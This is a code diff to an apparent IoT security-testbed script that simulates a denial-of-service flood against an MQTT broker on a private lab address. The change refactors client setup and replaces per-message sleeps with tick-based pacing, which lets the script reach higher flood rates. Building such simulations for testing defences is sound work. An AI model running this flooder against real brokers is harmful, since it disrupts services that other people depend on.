@@ -30,6 +30,7 @@ Arguments:
 
 import sys
 import time
+import functools
 import argparse
 from pathlib import Path
 
@@ -39,6 +40,16 @@ sys.path.insert(0, str(Path(__file__).parent.parent / "src"))
 from modules.mqtt_client import SecureMQTTClient
 from modules.logging_utils import get_logger
 
+# Broker connection settings shared by every simulated client
+_make_client = functools.partial(
+    SecureMQTTClient,
+    broker_host="192.168.1.10",
+    broker_port=1883,
+    username=None,
+    password=None,
+    ca_cert_path=None
+)
+
 
 class FloodSimulator:
     """Simulates DoS/flooding attacks on MQTT broker."""
@@ -48,16 +59,12 @@ class FloodSimulator:
         self.logger = get_logger("simulator_flood", console=True)
         self.topic = topic
 
+        # Constant payload, encoded once and reused for every publish
+        self._payload = b"motion_detected"
+
         # Initialize MQTT client
         try:
-            self.client = SecureMQTTClient(
-                client_id="flood_attacker",
-                broker_host="192.168.1.10",
-                broker_port=1883,
-                username=None,
-                password=None,
-                ca_cert_path=None
-            )
+            self.client = _make_client(client_id="flood_attacker")
 
             if not self.client.connect(retry=False):
                 self.logger.error("Failed to connect to broker")
@@ -80,36 +87,47 @@ class FloodSimulator:
         self.logger.warning(f"Starting flood attack on topic: {self.topic}")
         self.logger.warning(f"Rate: {rate} msg/sec | Duration: {duration} seconds")
 
-        interval = 1.0 / rate
-        start_time = time.time()
+        # Pace against a monotonic clock in 10 ms ticks: each tick sends
+        # however many messages are due by now, so high rates are not
+        # capped by one sleep per message and sleep overshoot never drifts
+        tick = 0.01
+        total = int(rate * duration)
+        start_time = time.perf_counter()
+        next_deadline = start_time
+        last_log = start_time
         message_count = 0
 
         try:
-            while time.time() - start_time < duration:
-                # Send flood message
-                payload = "motion_detected"  # Constant payload
-                self.client.publish(self.topic, payload, qos=0)  # QoS 0 for speed
-
-                message_count += 1
-
-                # Show progress every 50 messages
-                if message_count % 50 == 0:
-                    elapsed = time.time() - start_time
-                    actual_rate = message_count / elapsed
+            while message_count < total:
+                due = min(total, int((time.perf_counter() - start_time) * rate) + 1)
+                while message_count < due:
+                    # Send flood message
+                    self.client.publish(self.topic, self._payload, qos=0)  # QoS 0 for speed
+
+                    message_count += 1
+
+                # Show progress once per second (per tick, not per message,
+                # so logging cost does not scale with the rate)
+                now = time.perf_counter()
+                if now - last_log >= 1.0:
                     self.logger.info(
-                        f"Sent {message_count} messages "
-                        f"({actual_rate:.1f} msg/sec)"
+                        "Sent %d messages (%.1f msg/sec)",
+                        message_count, message_count / (now - start_time)
                     )
+                    last_log = now
 
-                # Rate limiting
-                time.sleep(interval)
+                # Rate limiting: sleep until the next tick
+                next_deadline += tick
+                delay = next_deadline - time.perf_counter()
+                if delay > 0:
+                    time.sleep(delay)
 
         except KeyboardInterrupt:
             self.logger.info("Attack interrupted by user")
         except Exception as e:
             self.logger.error(f"Error during attack: {e}")
         finally:
-            elapsed = time.time() - start_time
+            elapsed = time.perf_counter() - start_time
             self.logger.warning(
                 f"Attack complete: {message_count} messages sent "
                 f"in {elapsed:.1f} seconds ({message_count/elapsed:.1f} msg/sec)"
@@ -137,7 +155,7 @@ class FloodSimulator:
 
                 # Send burst as fast as possible
                 for i in range(burst_size):
-                    self.client.publish(self.topic, "motion_detected", qos=0)
+                    self.client.publish(self.topic, self._payload, qos=0)
 
                     if (i + 1) % 25 == 0:
                         self.logger.info(f"  {i + 1}/{burst_size} messages sent")